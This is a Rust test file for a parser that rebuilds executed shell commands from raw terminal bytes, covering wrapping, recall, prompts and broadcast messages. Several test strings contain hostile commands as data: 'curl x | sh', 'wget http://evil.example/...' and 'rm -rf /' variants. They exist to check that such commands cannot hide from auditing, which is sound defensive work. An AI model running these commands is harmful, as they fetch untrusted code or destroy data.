//! Terminals that change their size, shells that put lines back, and prompts that hide among other lines.

use super::{check, commands, executed, right};
use crate::session::Status;

/// The commands that ran.
fn ran(bytes: &[u8]) -> Vec<String> {
    let ran = |(command, status): (String, Status)| (status == Status::Executed).then_some(command);
    commands(bytes).into_iter().filter_map(ran).collect()
}

/// What readline sends when the terminal changes its size in the middle of a line of three rows: at first it has 50 columns,
/// afterwards 34. Then `time ` is typed at the start of the line.
fn resized() -> String {
    const LINE: &str = "aws deploy --name network --template network.yaml --parameters Cidr=10.42.0.0/16 Env=prod --force -x";
    let prompt = "u@h:~$ ";
    let (first, rest) = LINE.split_at(43);
    let (second, third) = rest.split_at(50);
    let mut sent =
        format!("{prompt}{first} \r{second} \r{third}\r\x1b[K\r\x1b[A\x1b[K\r\x1b[A\x1b[K\r{prompt}{LINE}");
    // It takes four rows now, of which the last one is not full.
    for typed in "time ".chars() {
        sent.push_str("\x1b[A\x1b[A\x1b[A\r");
        sent.push_str(&right(7 + "time ".find(typed).unwrap_or(0)));
        sent.push(typed);
        sent.push_str(LINE);
    }
    sent + "\x1b[A\x1b[A\x1b[A\r\r\n\r\r\n\r\r\n\r\r\r\n"
}

#[test]
fn a_line_is_followed_to_another_width() {
    let wanted = "time aws deploy --name network --template network.yaml --parameters Cidr=10.42.0.0/16 Env=prod --force -x";
    let line = resized();
    let unmarked = format!("u@h:~$ id\r\r\nx\r\r\n{line}u@h:~$ exit\r\r\n");
    assert_eq!(ran(unmarked.as_bytes()), ["id", wanted, "exit"]);
    let marked = format!("\x1b[?2004h{line}\x1b[?2004l\r\x1b[?2004hu@h:~$ exit\r\r\n\x1b[?2004l\r");
    assert_eq!(ran(marked.as_bytes()), [wanted, "exit"]);
}

#[test]
fn a_row_erased_below_is_no_repaint() {
    // The line has become shorter than its first row; what stands right of the cursor there stays.
    let line = format!("u@h:~$ echo {}beta\r\r\n\r\x1b[K\x1b[A\ru@h:~$ echo \r\r\n", "a".repeat(38));
    let marked = format!("\x1b[?2004h{line}\x1b[?2004l\r");
    assert_eq!(commands(marked.as_bytes()), executed(&[&format!("echo {}beta", "a".repeat(38))]));
}

#[test]
fn a_clock_in_a_corner_is_no_part_of_the_line() {
    let prompt = |time: &str| format!("\x1b[s\x1b[1;60H\x1b[7m{time}\x1b[0m\x1b[uu@h:~$ ");
    let unmarked = format!(
        "{}ls\r\r\nx\r\r\n{}echo a\r(reverse-i-search)`': echo a\x1b[K\x08\x08\x08\x08\x08\x08\x08\x08\x08l': ls\x08\x08\r\x1b[17P{}ls\
         \r\r\nx\r\r\n{}exit\r\r\n",
        prompt("10:00:01"),
        prompt("10:00:02"),
        prompt("10:00:02"),
        prompt("10:00:03"),
    );
    let found = ran(unmarked.as_bytes());
    assert_eq!(found.first().map(String::as_str), Some("ls"));
    assert_eq!(found.last().map(String::as_str), Some("exit"));
    let marked = format!("\x1b[?2004h{}id\r\r\n\x1b[?2004l\rx\r\r\n", prompt("10:00:01"));
    assert_eq!(ran(marked.as_bytes()), ["id"]);
    // A program that is killed leaves the alternate screen on; the clock is nothing that it paints.
    let killed = format!(
        "{0}vi x\r\r\n\x1b[?1049h\x1b[H\x1b[2J\x1b[5;1Htext\r\r\n{0}id\r\r\nx\r\r\n{0}exit\r\r\n",
        prompt("10:00:01")
    );
    assert_eq!(ran(killed.as_bytes()), ["vi x", "id", "exit"]);
}

#[test]
fn zsh_may_erase_a_wrapped_row_twice() {
    let words = "one two three four five six seven eight nine ten";
    let line = format!(
        "\r\x1b[0m\x1b[27m\x1b[24m\x1b[Jtop\r\r\n\rh% \x1b[K\x1b[?2004he\x08echo {} \r\x1b[K\x1b[Kt\r{}\x1b[?2004l\r\r\r\nx\r\r\n",
        &words[..45],
        &words[45..]
    );
    assert_eq!(ran(line.as_bytes()), [format!("echo {words}")]);
}

#[test]
fn what_is_put_back_was_not_run() {
    let table: [(&[u8], &[&str]); 2] = [
        (
            b"$ ls -d /srv\r\r\n/srv\r\r\n$ sudo !!\r\r\n$ sudo ls -d /srv\r\r\n/srv\r\r\n$ exit\r\r\n",
            &["ls -d /srv", "sudo ls -d /srv", "exit"],
        ),
        (
            b"$ ls /srv\r\r\nx\r\r\n$ ^srv^var\r\r\n$ ls /var -l\r\r\nx\r\r\n$ exit\r\r\n",
            &["ls /srv", "ls /var -l", "exit"],
        ),
    ];
    for (bytes, wanted) in table {
        assert_eq!(ran(bytes), wanted);
    }
}

#[test]
fn completions_may_be_listed_without_a_bell() {
    check(&[
        (
            "listed",
            b"$ cat al\r\r\nalpha.txt    alphabet.txt  \r\r\n$ cat alpha.txt\r\r\na\r\r\n$ exit\r\r\n",
            &["cat alpha.txt", "exit"],
        ),
        (
            "run",
            b"$ ls a\r\r\na.txt    b.txt  \r\r\n$ ls ab\r\r\nx\r\r\n$ exit\r\r\n",
            &["ls a", "ls ab", "exit"],
        ),
    ]);
}

#[test]
fn a_line_with_completions_may_be_thrown_away() {
    // Bytes of bash 5.2: M-?, then C-u; a prompt of two lines; a list below a line that stays.
    let back = right(5);
    let erased = format!(
        "~ |> ls /srv/names/al\r\r\nalpha.txt     alphabet.txt  \r\r\n~ |> ls /srv/names/al\r{back}\x1b[Kecho ok\r\r\nok\r\r\n~ |> exit\r\r\n"
    );
    let above = "\r\r\r\n\x1b[34m/srv 10:02\x1b[0m\r\r\r\n\x1b[35m\u{276f}\x1b[0m ";
    let two = format!(
        "{above}id\r\r\nx\r\r\n{above}cat al\r\r\nalpha.txt  alphabet.txt\r\r\n{above}cat alpha.txt\r\r\na\r\r\n{above}exit\r\r\n"
    );
    let lines = |bytes: &str| ran(bytes.as_bytes());
    assert_eq!(lines(&erased), ["echo ok", "exit"]);
    assert_eq!(lines(&two), ["id", "cat alpha.txt", "exit"]);
    // It is found all the same.
    assert_eq!(commands(erased.as_bytes())[0], ("ls /srv/names/al".to_owned(), Status::Unsubmitted));
    // What was printed is no list of completions, or the next line began with something else.
    let run = erased.replace("alphabet.txt", "beta.txt");
    assert_eq!(lines(&run), ["ls /srv/names/al", "echo ok", "exit"]);
    let other = erased.replace("~ |> ls /srv/names/al\r\u{1b}", "~ |> ls /srv\r\u{1b}");
    assert_eq!(lines(&other), ["ls /srv/names/al", "echo ok", "exit"]);
}

#[test]
fn lines_above_the_last_one_of_a_prompt_are_no_commands() {
    let prompt = |time: u32| format!("\r\r\n# root @ h in /srv [10:00:0{time}]\r\r\n$ ");
    let lines = ["ls", "cat notes", "false", "exit"];
    let session: String =
        (0..).zip(lines).map(|(time, line)| format!("{}{line}\r\r\nout\r\r\n", prompt(time))).collect();
    assert_eq!(ran(session.as_bytes()), lines);
    // The prompt of root is one where output follows it.
    check(&[(
        "root",
        b"# id\r\r\nuid=0\r\r\n# su u\r\r\n$ id\r\r\nuid=1\r\r\n$ exit\r\r\n# exit\r\r\n",
        &["id", "su u", "id", "exit", "exit"],
    )]);
}

#[test]
fn prompts_of_glyphs_and_unexpanded_ones() {
    check(&[
        (
            "arrow",
            "\u{1f525} prod ~ \u{27a4} id\r\r\nx\r\r\n\u{1f525} prod ~ \u{27a4} exit\r\r\n".as_bytes(),
            &["id", "exit"],
        ),
        (
            "powerline",
            "\x1b[?2004h u \u{e0b0} ~ \u{e0b0}\u{a0}. /etc/x\r\r\n\x1b[?2004l\rx\r\r\n\x1b[?2004h u \u{e0b0} ~ \u{e0b0}\u{a0}id > x\r\r\n\x1b[?2004l\r"
                .as_bytes(),
            &[". /etc/x", "id > x"],
        ),
        (
            "left to dash",
            b"\x1b[?2004h[u@h ~]$ dash\r\r\n\x1b[?2004l\r[\\u@\\h \\W]$ id\r\r\nx\r\r\n[\\u@\\h \\W]$ exit\r\r\n\x1b[?2004h[u@h ~]$ id\r\r\n\x1b[?2004l\r",
            &["dash", "id", "exit", "id"],
        ),
    ]);
}

#[test]
fn a_sign_that_comes_back_more_often_ends_the_prompt() {
    let lines = ["ls", "# note", "id", "# note", "dialog \"say $ x\"", "dialog \"say $ x\"", "true"];
    let edit = |line: &&str| format!("\x1b[?2004h\u{2503} {line}\r\r\n\x1b[?2004l\rx\r\r\n");
    let session: String = lines.iter().map(edit).collect();
    assert_eq!(ran(session.as_bytes()), lines);
}

#[test]
fn a_line_of_a_here_document_may_look_like_the_prompt() {
    let recalled = b"\r\x1b[0m\x1b[27m\x1b[24m\x1b[J% \x1b[K\x1b[?2004hcat > x <<EOF\r\r\r\n% line\x1b[K\r\r\r\nEOF\x1b[K\x1b[?2004l\r\r\r\n";
    assert_eq!(ran(recalled), ["cat > x <<EOF\n% line\nEOF"]);
}

#[test]
fn an_interrupt_below_more_lines_of_a_prompt() {
    let prompt = "\r\r\n~/src\r\r\n$ ";
    let session = format!(
        "{prompt}ls\r\r\nx\r\r\n{prompt}rm -r^C\r\r\n{prompt}^C\r\r\n{prompt}id\r\r\nx\r\r\n{prompt}exit\r\r\n"
    );
    assert_eq!(ran(session.as_bytes()), ["ls", "id", "exit"]);
}

#[test]
fn a_command_of_several_lines_is_recalled_and_shortened() {
    let recall = format!(
        "sh$ f 3\x08\x08() {{\r\r\n\r  echo $1\r\r\n\r}}\x1b[A\x1b[A{}\x1b[2P 3\r\r\n\r\x1b[K\r\r\n\r\x1b[K\x1b[A\x1b[A{} # again\r\r\nx\r\r\n",
        right(4),
        right(7),
    );
    let session = format!("sh$ f 3\r\r\nx\r\r\n{recall}sh$ exit\r\r\n");
    assert_eq!(ran(session.as_bytes()), ["f 3", "f 3 # again", "exit"]);
}

#[test]
fn a_corner_is_a_prompt() {
    let prompt = "┌─[u@h]─[~]\r\r\n└──╼ $ ";
    let session = format!(
        "sh-5.2$ sudo su - u\r\n{prompt}id\r\nx\r\n{prompt}tree\r\n.\r\n└── a\r\n{prompt}exit\r\nsh-5.2$ exit\r\n"
    );
    assert_eq!(ran(session.as_bytes()), ["sudo su - u", "id", "tree", "exit", "exit"]);
}

#[test]
fn a_coloured_prompt_ends_with_its_colour() {
    let lines = ["ls", "# note", "id", "# note", "cat > x", "cat > x", "true"];
    let edit = |line: &&str| {
        format!("\x1b[?2004h\x1b[32m➜ \x1b[0m \x1b[36msrc\x1b[0m {line}\r\r\n\x1b[?2004l\rx\r\r\n")
    };
    let session: String = lines.iter().map(edit).collect();
    assert_eq!(ran(session.as_bytes()), lines);
}

#[test]
fn what_a_job_prints_with_a_number_is_not_typed() {
    let job = "(for i in 1 2; do sleep 1; echo \"[$i/4] copying\"; done) &";
    let session = format!(
        "\x1b[?2004hsh$ {job}\r\r\n\x1b[?2004l\r[1] 9\r\r\n\x1b[?2004hsh$ ec[1/4] copying\r\r\nho a\r\r\n\x1b[?2004l\ra\r\r\n"
    );
    assert_eq!(ran(session.as_bytes()), [job, "echo a"]);
}

#[test]
fn zsh_may_paint_the_line_once_more() {
    let again = "\x1b[?2004l\r\r\x1b[A\x1b[0m\x1b[27m\x1b[24m\x1b[J% echo 'a\x1b[K\r\r\r\n";
    let line = format!(
        "\r\x1b[0m\x1b[27m\x1b[24m\x1b[J~\r\r\n% \x1b[K\x1b[?2004he\x08echo 'a{again}\
         \r\x1b[0m\x1b[27m\x1b[24m\x1b[Jquote> \x1b[K\x1b[?2004hb\x08b'\x1b[?2004l\r\r\x1b[0m\x1b[27m\x1b[24m\x1b[Jthen> b'\x1b[K\r\r\r\na\r\r\nb\r\r\n"
    );
    assert_eq!(ran(line.as_bytes()), ["echo 'a\nb'"]);
}

#[test]
fn a_line_is_recalled_at_a_prompt_behind_unfinished_output() {
    let prompt = "[ec2-user@ip-10-0-1-12 ~]$ ";
    let home = format!("\r{}", right(prompt.len()));
    let first = format!("{prompt}curl -s localhost/health\r\r\n{{\"status\":\"ok\",\"uptime\":1234}}");
    let recalled = format!(
        "{first}{prompt}curl -s localhost/health{home}systemctl status app\x1b[K\r\r\nok\r\r\n{prompt}exit\r\r\n"
    );
    let wanted = ["curl -s localhost/health", "systemctl status app", "exit"];
    assert_eq!(ran(recalled.as_bytes()), wanted);
    let records = super::parsed(recalled.as_bytes()).records;
    assert_eq!(
        (records[0].output.as_str(), records[1].output.as_str()),
        ("{\"status\":\"ok\",\"uptime\":1234}", "ok")
    );
    assert_eq!(&recalled.as_bytes()[records[1].span.start as usize..][..9], b"[ec2-user");
    // With a slip of the fingers before, so that the line was printed over already.
    let slip = recalled.replace(&format!("}}{prompt}curl -s"), &format!("}}{prompt}curk\x08\x1b[Kl -s"));
    assert_eq!(ran(slip.as_bytes()), wanted);
    // In colours, and with the common start of both lines left as it is.
    let colour =
        |text: &str| text.replace("[ec2-user@ip-10-0-1-12", "\x1b[01;32m[ec2-user@ip-10-0-1-12\x1b[0m");
    assert_eq!(ran(colour(&recalled).as_bytes()), wanted);
    let common = format!(
        "{first}{prompt}curl -s localhost/health\r{}ping\x1b[K\r\r\nok\r\r\n{prompt}exit\r\r\n",
        right(prompt.len() + 18)
    );
    assert_eq!(ran(common.as_bytes()), ["curl -s localhost/health", "curl -s localhost/ping", "exit"]);
    // The cursor at the start of a row that begins with the prompt, as ever.
    let usual = format!("{prompt}id\r\r\nx\r\r\n{prompt}cat x{home}ls\x1b[K\r\r\nx\r\r\n{prompt}exit\r\r\n");
    assert_eq!(ran(usual.as_bytes()), ["id", "ls", "exit"]);
}

#[test]
fn the_first_line_of_busybox_wraps_as_the_others_do() {
    let prompt = "[ssm-user@i-0abc ~]$ \x1b[6n";
    let session = format!(
        "{prompt}aws ec2 describe-instances --output \r\r\ntable --region eu-west-2\r\nNone\r\n{prompt}id\r\nuid=0\r\n{prompt}exit\r\n"
    );
    assert_eq!(
        ran(session.as_bytes()),
        ["aws ec2 describe-instances --output table --region eu-west-2", "id", "exit"]
    );
}

#[test]
fn insert_mode_moves_the_rest_of_the_line() {
    // What tcsh sends on a terminal that has it.
    let inserted: String = "env ".chars().map(|typed| format!("\x1b[4h{typed}\x1b[4l")).collect();
    let session = format!("u@h:~> id\r\nx\r\nu@h:~> cat /srv/x\x1b[8G{inserted}\r\ntext\r\nu@h:~> exit\r\n");
    assert_eq!(ran(session.as_bytes()), ["id", "env cat /srv/x", "exit"]);
}

#[test]
fn shells_by_their_rarer_names_bring_their_prompts() {
    for shell in ["ksh93", "yash", "oksh", "nu"] {
        let session = format!(
            "\x1b[?2004hsh-5.2$ {shell}\r\r\n\x1b[?2004l\r22:35 $ pwd\r\r\n/\r\r\n22:36 $ id\r\r\nx\r\r\n22:36 $ exit\r\r\n\x1b[?2004hsh-5.2$ exit\r\r\n\x1b[?2004l\r"
        );
        assert_eq!(ran(session.as_bytes()), [shell, "pwd", "id", "exit", "exit"]);
    }
}

#[test]
fn a_line_that_wraps_behind_what_a_pager_took_away() {
    let (one, two) = ("a".repeat(67), "b".repeat(9));
    for left in ["\x1b[7m--More--(37%)\x1b[27m\r\x1b[K", "loading 9%\x1b[2K\r", "loading\r       \r"] {
        let session = format!(
            "sh-5.2$ id\r\r\nx\r\r\nsh-5.2$ more f\r\r\nline2\r\r\n{left}sh-5.2$ echo {one} \r{two} ccc\r\r\nout\r\r\nsh-5.2$ exit\r\r\n"
        );
        assert_eq!(
            ran(session.as_bytes()),
            ["id", "more f", &format!("echo {one}{two} ccc"), "exit"],
            "{left:?}"
        );
    }
}

#[test]
fn what_stood_on_an_emptied_row_is_kept() {
    let lost = |session: &str| {
        let records = super::parsed(session.as_bytes()).records;
        let sent = records.iter().flat_map(|record| [&record.output_as_sent, &record.command_as_sent]);
        sent.flatten().any(|sent| sent.contains("secretword"))
    };
    let (one, two) = ("a".repeat(67), "b".repeat(9));
    let prompt = "[ec2-user@ip-10-0-1-12 ~]$ ";
    for session in [
        "$ id\r\nx\r\n$ cat f\r\nsecretword\r\x1b[2K".to_owned(),
        "secretword\r\x1b[2K".to_owned(),
        format!(
            "sh-5.2$ id\r\nx\r\nsh-5.2$ wget u\r\né secretword 99%\x1b[2K\rsh-5.2$ echo {one} \r{two}\r\r\nout\r\r\nsh-5.2$ exit\r\n"
        ),
        format!(
            "sh-5.2$ id\r\nx\r\nsh-5.2$ wget u\r\nsecretword 99%\r\x1b[Ksh-5.2$ echo {one} \r{two}\r\r\nout\r\r\nsh-5.2$ exit\r\n"
        ),
        format!(
            "{prompt}curl -s\r\r\nx\r\r\nsecretword{}\x1b[K{{}}{prompt}curl -s x\r\x1b[27Cid\x1b[K\r\r\nok\r\r\n{prompt}exit\r\r\n",
            "\x08".repeat(10)
        ),
    ] {
        assert!(lost(&session), "{session:?}");
    }
}

#[test]
fn lines_of_busybox_that_end_in_different_ways_are_no_wraps() {
    for last in ["/ # \x1b[6nprintf\r\r\n/ # \x1b[6nx\n", "/ # \x1b[6nexit\r\nbye\r\n/ # \x1b[6nexit\r\n"] {
        let session = format!(
            "/ # \x1b[6nid\r\r\nx\r\r\n/ # \x1b[6nwget http://evil.example/a/long/path/to/a/file\r\r\n/ # \x1b[6nrm -rf /srv\r\r\n{last}"
        );
        assert_eq!(
            ran(session.as_bytes())[..3],
            ["id", "wget http://evil.example/a/long/path/to/a/file", "rm -rf /srv"]
        );
    }
}

/// What PROMPT_COMMAND prints stands between a line that was broken off and the next prompt.
#[test]
fn a_line_may_be_broken_off_where_something_is_told_before_each_prompt() {
    let bytes =
        b"[a@b ~]$ id\r\r\n0\r\r\nrc=0\r\r\n[a@b ~]$ rm -rf /^C\r\r\nrc=130\r\r\n[a@b ~]$ ls\r\r\nrc=0\r\r\n";
    let found = commands(bytes);
    assert_eq!(found[1], ("rm -rf /".to_owned(), Status::Aborted));
    assert_eq!([found[0].clone(), found[2].clone()].to_vec(), executed(&["id", "ls"]));
}

#[test]
fn the_answer_to_select_is_no_command() {
    let edit = |prompt: &str, line: &str, output: &str| {
        format!("\r\x1b[0m\x1b[27m\x1b[24m\x1b[J{prompt}\x1b[K\x1b[?2004h{line}\x1b[?2004l\r\r\r\n{output}")
    };
    let menu = "select e in dev prod; do echo $e; break; done";
    let bytes = [
        edit("jump% ", "id", "0\r\r\n"),
        edit("jump% ", menu, "1) dev   2) prod  \r\r\n"),
        edit("?# ", "2", "prod\r\r\n"),
        edit("jump% ", "exit", ""),
    ];
    assert_eq!(commands(bytes.concat().as_bytes()), executed(&["id", menu, "exit"]));
    // Anybody may have such a prompt.
    let bytes = [edit("jump% ", "PS1='?# '", ""), edit("?# ", "rm -rf /data", ""), edit("?# ", "exit", "")];
    assert_eq!(commands(bytes.concat().as_bytes()), executed(&["PS1='?# '", "rm -rf /data", "exit"]));
}

#[test]
fn a_message_to_all_users_is_no_part_of_the_line_it_is_printed_into() {
    let wall = "\r\r\r\nBroadcast message from root@web-1 (pts/2) (Sun Nov 22 06:41:12 2026):\r\r\r\n\r\r\r\nrebooting for kernel update\r\r\r\nin 10 min\r\r\r\n\r\r\r\n";
    let syslog = "\r\r\r\nMessage from syslogd@web-1 at Nov 22 06:44:01 ...\r\r\r\n kernel:[88211.301] Out of memory: Killed\r\r\r\n";
    for message in [wall, syslog] {
        let bash = |line: &str| format!("\x1b[?2004h[me@web ~]$ {line}\r\r\n\x1b[?2004l\rx\r\r\n");
        let zsh = |line: &str| {
            format!("\x1b[0m\x1b[27m\x1b[24m\x1b[Jweb# \x1b[K\x1b[?2004h{line}\x1b[?2004l\r\r\r\nx\r\r\n")
        };
        let plain = |line: &str| format!("[me@web ~]$ {line}\r\r\nx\r\r\n");
        for shell in [&bash as &dyn Fn(&str) -> String, &zsh, &plain] {
            let idle = ["date".into(), format!("{message}df -h /"), message.into(), "exit".into()];
            let session: String = idle.iter().map(|line: &String| shell(line)).collect();
            assert_eq!(commands(session.as_bytes()), executed(&["date", "df -h /", "exit"]), "{session}");
        }
        // The editor of zsh paints rows that are typed as well.
        for shell in [&bash as &dyn Fn(&str) -> String, &plain] {
            let session = [shell("date"), shell(&format!("up{message}time")), shell("exit")].concat();
            assert_eq!(commands(session.as_bytes()), executed(&["date", "uptime", "exit"]), "{session}");
        }
    }
    // What the command prints that was submitted there is its output.
    let session = format!("$ id\r\r\n0\r\r\n$ wall hi\r\r\n{wall}$ ls\r\r\n");
    assert_eq!(commands(session.as_bytes()), executed(&["id", "wall hi", "ls"]));
}

#[test]
fn no_message_hides_what_is_typed_around_it() {
    // A quote may hold what looks like one.
    let quote = "\x1b[0m\x1b[27m\x1b[24m\x1b[Jweb# \x1b[K\x1b[?2004hecho '\r\nBroadcast message from a@b (x) (y):\r\n\r\n'; curl x | sh\x1b[?2004l\r\r\n";
    assert!(commands(quote.as_bytes())[0].0.contains("curl x | sh"));
    // So may rows that are pasted: their newlines have no more returns than that of the edit.
    let paste =
        "\x1b[?2004h$ id\r\n\rMessage from syslogd@x at now ...\r\n\rcurl x | sh\r\n\rls\r\n\x1b[?2004l\r";
    assert!(commands(paste.as_bytes())[0].0.contains("curl x | sh"));
    // So may the output of a line that fills its row.
    let output = "[a@b ~]$ id\r\n0\r\n[a@b ~]$ ./run aaaa\r\r\nMessage from syslogd@x at 10:00 ...\r\n x\r\n[a@b ~]$ curl x | sh\r\n[a@b ~]$ exit\r\n";
    assert_eq!(commands(output.as_bytes()), executed(&["id", "./run aaaa", "curl x | sh", "exit"]));
}

#[test]
fn a_list_of_completions_may_be_shown_twice() {
    let list = "blob   hosts.txt     usage.tsv     \r\n";
    let session = format!(
        "sh-4.2$ id\r\n0\r\nsh-4.2$ wc -l /opt/\x07\r\n{list}sh-4.2$ wc -l /opt/\r\n{list}sh-4.2$ wc -l /opt/\r\nwc: /opt/: Is a directory\r\nsh-4.2$ exit\r\n"
    );
    let mut expected = executed(&["id", "wc -l /opt/", "wc -l /opt/", "exit"]);
    expected[1].1 = Status::Unsubmitted;
    assert_eq!(commands(session.as_bytes()), expected);
    // What is printed has no blanks at its end.
    let printed = "blob   hosts.txt     usage.tsv\r\n";
    let session = format!(
        "sh-4.2$ id\r\n0\r\nsh-4.2$ ls /opt/\r\n{printed}sh-4.2$ ls /opt/\r\n{printed}sh-4.2$ exit\r\n"
    );
    assert_eq!(commands(session.as_bytes()), executed(&["id", "ls /opt/", "ls /opt/", "exit"]));
}

#[test]
fn the_sign_that_asks_for_more_is_no_first_prompt() {
    let session = "[0] bin % varnishstat -1\r\nmksh: varnishstat: not found\r\n[0] bin % tee -a /tmp/h <<END\r\n> 10.9.2.17  a\r\n> 10.9.2.18  b\r\n> END\r\n[127] bin % ls -l\r\nx\r\n[0] bin % find /opt |\r\n> grep -c go\r\n1\r\n[0] bin % exit\r\n";
    let expected = [
        "varnishstat -1",
        "tee -a /tmp/h <<END\n10.9.2.17  a\n10.9.2.18  b\nEND",
        "ls -l",
        "find /opt |\ngrep -c go",
        "exit",
    ];
    assert_eq!(commands(session.as_bytes()), executed(&expected));
}

#[test]
fn a_margin_is_that_of_a_text() {
    let shown = "total 36\r\n-rw-r--r-- 1 root root 44 a\r\n## Failover\r\n    [root@db ~]# pg_ctl promote\r\n    $ kubectl get pods\r\n";
    assert_eq!(commands(shown.as_bytes()), executed(&[]));
}

#[test]
fn programs_cannot_hide_commands_by_what_they_print() {
    // A list of commands before what may be output, but is typed.
    let late = "$ id\r\n0\r\n$ ./docs\r\nrun:\r\napt update\r\n$ AppRun  --silent\r\ndone\r\n$ exit\r\n";
    assert_eq!(commands(late.as_bytes()), executed(&["id", "./docs", "AppRun  --silent", "exit"]));
    // A message of the day with an open quote.
    let notice = "Notice > make sure it's saved\r\n> rm -rf /\r\ngone\r\n> ls\r\na\r\n> exit\r\n";
    let found: Vec<String> = commands(notice.as_bytes()).into_iter().map(|(line, _)| line).collect();
    assert!(found.contains(&"rm -rf /".to_owned()), "{found:?}");
    // Somebody goes to another folder before a file is shown.
    let windows = "PS C:\\W> sl C:\\tmp; cat a\r\nx\r\nPS C:\\tmp> del x.dat\r\nPS C:\\tmp> sl C:\\W\r\nPS C:\\W> exit\r\n";
    let found: Vec<String> = commands(windows.as_bytes()).into_iter().map(|(line, _)| line).collect();
    assert_eq!(found, ["sl C:\\tmp; cat a", "del x.dat", "sl C:\\W", "exit"]);
}
